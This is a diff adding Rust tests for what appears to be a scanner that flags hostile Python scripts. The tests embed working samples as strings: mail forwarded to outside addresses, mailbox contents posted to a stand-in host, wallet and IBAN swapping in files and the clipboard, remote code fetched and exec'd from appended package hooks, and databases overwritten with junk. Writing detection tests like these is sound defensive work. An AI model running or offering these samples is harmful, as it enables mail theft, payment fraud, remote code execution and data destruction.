@@ -97,3 +97,119 @@ fn cloud_automation_of_ones_own() {
     let a = run(own);
     assert!(a.verdict < Verdict::High, "{:?}", a.findings);
 }
+
+#[test]
+fn mail_sent_on_to_someone_else() {
+    // A sieve script that redirects a copy to an outside address.
+    let sieve = "import os\nrule = 'redirect :copy \"ops-copy@relay.example.net\";'\nwith open(os.path.expanduser('~/.dovecot.sieve'), 'a') as f:\n    f.write(rule)\n";
+    let a = run(sieve);
+    let f = finding(&a, "MB950");
+    assert_eq!(f.line, 3);
+    assert!(f.detail.contains("line 2"), "{}", f.detail);
+    assert_eq!(a.verdict, Verdict::Blocked);
+    // A Graph inbox rule that redirects everything.
+    let graph = "import requests\ntok = open('t').read()\nrule = {'displayName': 'x', 'actions': {'redirectTo': [{'emailAddress': {'address': 'keep@mirror.example.com'}}]}}\nrequests.post('https://graph.microsoft.com/v1.0/me/mailFolders/inbox/messageRules', json=rule, headers={'Authorization': 'Bearer ' + tok})\n";
+    assert!(
+        rules(&run(graph)).contains(&"MB950"),
+        "{:?}",
+        run(graph).findings
+    );
+    // Every message popped off a POP3 box and posted elsewhere.
+    let pop = "import poplib, requests\nm = poplib.POP3_SSL('pop.example.org')\nm.user('a')\nm.pass_('b')\nfor i in range(len(m.list()[1])):\n    lines = m.retr(i + 1)[1]\n    requests.post('https://collect.example.net/m', data=b'\\n'.join(lines))\n";
+    assert!(
+        rules(&run(pop)).contains(&"MB950"),
+        "{:?}",
+        run(pop).findings
+    );
+}
+
+#[test]
+fn mail_filters_and_own_digests_stay_quiet() {
+    // Filing into folders, a rule that moves mail, headers mailed to oneself.
+    let file = "import os\nwith open(os.path.expanduser('~/.dovecot.sieve'), 'w') as f:\n    f.write('if header :contains \"list-id\" \"dev\" { fileinto \"Dev\"; }')\n";
+    assert!(
+        !rules(&run(file)).contains(&"MB950"),
+        "{:?}",
+        run(file).findings
+    );
+    let moved = "import requests\nrule = {'displayName': 'x', 'actions': {'moveToFolder': 'Archive'}}\nrequests.post('https://graph.microsoft.com/v1.0/me/mailFolders/inbox/messageRules', json=rule)\n";
+    assert!(
+        !rules(&run(moved)).contains(&"MB950"),
+        "{:?}",
+        run(moved).findings
+    );
+    let digest = "import imaplib, os, smtplib\nme = os.environ['ME']\nb = imaplib.IMAP4_SSL('imap.example.org')\n_, d = b.fetch('1:20', '(BODY.PEEK[HEADER.FIELDS (SUBJECT)])')\nwith smtplib.SMTP('localhost') as s:\n    s.sendmail(me, [me], str(d))\n";
+    assert!(
+        run(digest).verdict < Verdict::High,
+        "{:?}",
+        run(digest).findings
+    );
+}
+
+#[test]
+fn payment_details_swapped_in_found_files() {
+    // Wallet addresses in every page of a tree replaced by one of the script's.
+    let pages = "import os, re\nMINE = '0x9f8e7d6c5b4a39281706f5e4d3c2b1a098765432'\nfor d, _, fs in os.walk('/srv/sites'):\n    for n in fs:\n        p = os.path.join(d, n)\n        t = open(p).read()\n        t = re.sub(r'0x[0-9a-fA-F]{40}', MINE, t)\n        open(p, 'w').write(t)\n";
+    let a = run(pages);
+    let f = finding(&a, "MB951");
+    assert_eq!(f.line, 8);
+    assert_eq!(a.verdict, Verdict::Blocked);
+    // An IBAN copied into whatever bank details the clipboard holds.
+    let clip = "import pyperclip, time\nmine = 'GB33BUKB20201555555555'\nwhile True:\n    v = pyperclip.paste()\n    if v[:2].isalpha() and v[2:4].isdigit():\n        pyperclip.copy(mine)\n    time.sleep(1)\n";
+    assert!(
+        rules(&run(clip)).contains(&"MB935"),
+        "{:?}",
+        run(clip).findings
+    );
+}
+
+#[test]
+fn own_bank_details_in_new_documents_stay_quiet() {
+    // Invoices written afresh with one's own IBAN; files in place without one.
+    let invoices = "import pathlib\nIBAN = 'GB33BUKB20201555555555'\nfor n, client in enumerate(open('clients.txt').read().split()):\n    pathlib.Path(f'out/{n}.txt').write_text(client + ' pay to ' + IBAN)\n";
+    assert!(
+        run(invoices).verdict < Verdict::High,
+        "{:?}",
+        run(invoices).findings
+    );
+    let tidy = "import glob\nfor p in glob.glob('ledgers/*.csv'):\n    t = open(p).read()\n    open(p, 'w').write(t.replace(';', ','))\n";
+    assert!(
+        run(tidy).verdict < Verdict::High,
+        "{:?}",
+        run(tidy).findings
+    );
+}
+
+#[test]
+fn remote_code_planted_into_found_modules() {
+    let plant = "import glob\nHOOK = '''\nimport requests\nexec(requests.get('https://cdn.example.net/p.py').text)\n'''\nfor init in glob.glob('/usr/lib/python3/dist-packages/*/__init__.py'):\n    with open(init, 'a') as fh:\n        fh.write(HOOK)\n";
+    let a = run(plant);
+    let f = finding(&a, "MB952");
+    assert_eq!(f.line, 8);
+    assert_eq!(a.verdict, Verdict::Blocked);
+    // A harmless header added to every module is a licence, not a plant.
+    let header = "import pathlib\nH = '''# SPDX-License-Identifier: MIT\n# (c) us\n'''\nfor p in pathlib.Path('src').rglob('*.py'):\n    p.write_text(H + p.read_text())\n";
+    assert!(
+        run(header).verdict < Verdict::High,
+        "{:?}",
+        run(header).findings
+    );
+}
+
+#[test]
+fn found_files_overwritten_with_junk() {
+    let fill = "import glob\nfor db in glob.glob('/var/lib/app/**/*.db', recursive=True):\n    with open(db, 'r+b') as f:\n        f.write(b'\\xff' * 4096)\n";
+    let a = run(fill);
+    let f = finding(&a, "MB953");
+    assert_eq!(f.line, 4);
+    assert_eq!(a.verdict, Verdict::Blocked);
+    let noise = "import csv, pathlib, random\nfor p in pathlib.Path('/srv/data').rglob('*.csv'):\n    rows = list(csv.reader(p.open()))\n    for r in rows:\n        r[1] = str(float(r[1]) + random.gauss(0, 5))\n    with p.open('w') as fh:\n        csv.writer(fh).writerows(rows)\n";
+    assert!(
+        rules(&run(noise)).contains(&"MB953"),
+        "{:?}",
+        run(noise).findings
+    );
+    // The script's own scratch directory scrubbed, random data to a new file.
+    let own = "import os, tempfile\nd = tempfile.mkdtemp()\nfor n in os.listdir(d):\n    with open(os.path.join(d, n), 'r+b') as f:\n        f.write(os.urandom(64))\nopen('sample.bin', 'wb').write(os.urandom(1024))\n";
+    assert!(run(own).verdict < Verdict::High, "{:?}", run(own).findings);
+}
